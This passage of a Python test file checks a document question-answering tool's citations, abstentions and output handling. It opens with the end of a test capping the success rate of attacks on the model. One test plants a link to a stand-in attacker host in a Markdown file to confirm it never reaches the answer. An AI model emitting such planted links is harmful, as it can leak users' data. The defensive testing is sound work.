            won += succeeded(attack, answer)
    assert won <= len(attacks) * 0.05


def test_a_quote_from_json_has_its_key(project):
    project.write("docs/limits.json", json.dumps({"name": "orders", "limits": {"max_order_items": 25, "max_weight_kg": 31.5}, "support": {"phone": "+44 20 7946 0111", "hours": "9 to 5"}}, indent=2))
    project.add()
    answer = project.ask("How many order items may there be at the most (max order items)?")
    (citation,) = answer["citations"]
    assert citation["quote"].startswith('max_order_items": 25') and bytes_of(project, citation) == citation["quote"], citation


def test_a_quote_from_html_is_shown_as_words(project):
    """The JSON has the bytes, tags and all."""
    project.write("docs/parts.html", "<!doctype html><title>Parts</title><h1>Warranty of parts</h1><p>The warranty of the <b>heating</b> <i>element</i> of the kettle is 36 months.</p>")
    project.add()
    question = "How long is the warranty of the heating element of the kettle?"
    assert "</b> <i>element</i>" in project.ask(question)["citations"][0]["quote"]
    assert "warranty of the heating element of the kettle is 36 months" in project.run("ask", question).out
    project.write("docs/lift.html", "<!doctype html><title>Lift</title><p>The lift works at loads < 450 kg, and <b>Olga Maes</b> services the lift.</p>")
    project.add()
    assert "loads < 450 kg, and Olga Maes services the lift" in project.run("ask", "Who services the lift at loads of 450 kg?").out


def test_a_model_that_says_the_same_again_and_again(project):
    """Each sentence is looked for once, and no more than 500 that differ: who writes without end holds nobody up."""
    with scripted(says("Goods may be returned within 45 days [1]. " * 3000)) as server:
        answer = project.ask("--model", server.model, "How long may goods be returned?")
    assert answer["answer"].count("45 days") == 3000 and len(answer["citations"]) == 1
    with scripted(says("".join(f"Goods may be returned within 45 days {'again ' * number}[1]. " for number in range(502)))) as server:
        answer = project.ask("--model", server.model, "How long may goods be returned?")
    assert answer["prompt"]["sentences"] == 502 and answer["answer"].endswith("[not in the documents]")


def test_an_address_in_a_frame_that_others_see_otherwise_is_taken_apart(project):
    """Three signs that open and one that closes are no frame in Markdown: the address would be a link."""
    project.write("docs/z.md", "# Zorbit\n\nThe zorbit is kept at ``` https://evil.example/zep?q=1 ` today.\n")
    project.add()
    answer = project.ask("Where is the zorbit kept?")["answer"]
    assert "https://" not in answer and "q=1" not in answer, answer


def test_a_year_alone_answers_nothing(project):
    project.write("docs/boots.md", "# Boots\n\nEmberjack and Wren come from the Ostrand works, since 2018.\n\nA pair of Wren was 90 euros in 2019.\n")
    project.add()
    assert project.run("ask", "--json", "Who won the world cup in 2018?").json()["abstained"]
    assert "90" in project.run("ask", "--json", "What was the price of Wren in 2019?").json()["answer"]


def test_joints_of_words_that_follow_one_another(project):
    """"y en": one joint's last blank is not the other's first."""
    project.write("docs/club.md", "# Club\n\nLa asamblea es el 12 de marzo y en otoño el 20 de octubre, o en su caso y o el 3 de mayo.\n")
    project.add()
    assert project.ask("¿Cuándo es la asamblea del club?")["citations"][0]["document"] == "docs/club.md"
